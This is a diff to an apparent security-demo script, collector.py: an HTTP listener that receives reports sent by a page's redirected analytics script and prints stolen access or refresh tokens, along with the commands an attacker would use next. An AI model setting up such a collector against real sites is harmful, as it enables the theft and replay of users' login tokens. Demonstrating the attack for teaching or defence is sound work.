@@ -5,8 +5,9 @@ and points the page's analytics script at it (ANALYTICS_URL). Run it alone:
 
     python collector.py --port 8100
 
-Each report arrives as one line of JSON. For every refresh token in it, the
-collector prints what an attacker would type next, from any machine.
+Each report arrives as one line of JSON. For a stolen access or refresh
+token in it, the collector prints what an attacker would type next, from
+any machine.
 """
 
 import argparse
@@ -27,8 +28,11 @@ class Collector(BaseHTTPRequestHandler):
     def do_POST(self):
         length = min(int(self.headers.get("Content-Length") or 0), 64 * 1024)
         report = self.rfile.read(length).decode(errors="replace")
-        self.send_response(204)
+        self.report(report)
+        self.send_response(204)  # after printing: whoever sent it can read it now
         self.end_headers()
+
+    def report(self, report):
         print(f"[collector] received: {report}", flush=True)
         try:
             found = json.loads(report)
